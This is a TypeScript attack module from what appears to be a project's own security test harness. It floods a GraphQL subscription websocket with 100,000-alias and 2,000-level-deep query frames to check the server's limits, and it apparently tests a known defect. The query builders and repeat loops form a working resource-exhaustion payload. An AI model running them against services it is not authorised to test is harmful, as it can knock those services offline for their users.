import type { Attack } from '../attack.js';
import { openProtocolSocket } from '../protocol-socket.js';
import { repeater } from '../repeat.js';
import { count, errorCodesOf, type Tally } from '../tally.js';

const ALIASES = 100_000;
const DEPTH = 2_000;
/** How long after the second pong an error for the frame may still come (its start is charged in Redis). */
const AFTER_PONG_MS = 500;
const ANSWER_TIMEOUT_MS = 30_000;

/** 100,000 aliases of `id` (about 1.6 MB as a frame). */
export function aliasesDocument(aliases = ALIASES): string {
  const fields = Array.from({ length: aliases }, (_, index) => `alias${index}: id`).join(' ');
  return `subscription { notificationAdded { ${fields} } }`;
}

/** `actor { memberships { user { memberships { user { ... } } } } }`, `depth` memberships deep. */
export function deepDocument(depth = DEPTH): string {
  return `subscription { notificationAdded { actor { ${'memberships { user { '.repeat(depth)}id${' } }'.repeat(depth)} } } }`;
}

type FrameKind = 'aliases' | 'deep';

/**
 * Issue 12, defect 3: subscribe frames no HTTP request could carry. Each attempt is a fresh socket:
 * connect, send the frame, then `ping` twice, one after the other. The server handles messages in
 * order, and a frame that arrives with the first ping is handled in the same tick, so by the second
 * pong the frame has been parsed and validated: an error for it comes before, or soon after when
 * its start is refused by the limiter; none means the subscription was accepted.
 */
export const subscribeFrames: Attack = {
  id: 'subscribe-frames',
  title: 'Subscribe frames without limits',
  description: `two loops, each one fresh socket of the attacker at a time: a subscribe frame of ${ALIASES.toLocaleString('en-US')} aliases (about 1.6 MB), and one ${DEPTH.toLocaleString('en-US')} \`memberships { user { ... } }\` deep under \`actor\``,
  async prepare(context) {
    const sent: Tally = {};
    const got: Tally = {};
    const frames: Record<FrameKind, string> = {
      aliases: JSON.stringify({
        id: '1',
        type: 'subscribe',
        payload: { query: aliasesDocument() },
      }),
      deep: JSON.stringify({ id: '1', type: 'subscribe', payload: { query: deepDocument() } }),
    };
    const notes = (Object.entries(frames) as Array<[FrameKind, string]>).map(
      ([kind, frame]) => `${kind} frame: ${(Buffer.byteLength(frame) / 1e6).toFixed(2)} MB`,
    );
    const loops = repeater((error) => count(got, `error: ${String(error).slice(0, 60)}`));

    const attempt = (kind: FrameKind) => async () => {
      const socket = openProtocolSocket(context.socketUrl, {
        authorization: `Bearer ${context.attacker.token}`,
      });
      try {
        if (!(await socket.acknowledged)) {
          const closed = await socket.closed;
          count(got, `${kind}: socket refused ${closed.code}`);
          await loops.pause(1_000);
          return;
        }
        const verdict = new Promise<string>((resolve) => {
          socket.onMessage((message) => {
            if (message.type === 'error') {
              resolve(`error ${[...new Set(errorCodesOf(message.payload))].join(', ')}`);
            }
            if (message.type === 'next') resolve('accepted');
          });
          void socket.closed.then((closed) =>
            resolve(`closed ${closed.code}${closed.reason ? ` ${closed.reason}` : ''}`),
          );
          setTimeout(() => resolve('no answer in 30 s'), ANSWER_TIMEOUT_MS).unref();
        });
        socket.send(frames[kind]);
        count(sent, `${kind} frames`);
        const ponged = (async () => {
          await socket.ping();
          await socket.ping();
          await loops.pause(AFTER_PONG_MS);
          return 'accepted';
        })();
        count(got, `${kind}: ${await Promise.race([verdict, ponged])}`);
      } finally {
        await socket.close();
      }
    };

    return {
      begin() {
        loops.repeat(attempt('aliases'));
        loops.repeat(attempt('deep'));
      },
      async stop() {
        await loops.stop();
        return { sent, got, notes };
      },
    };
  },
};
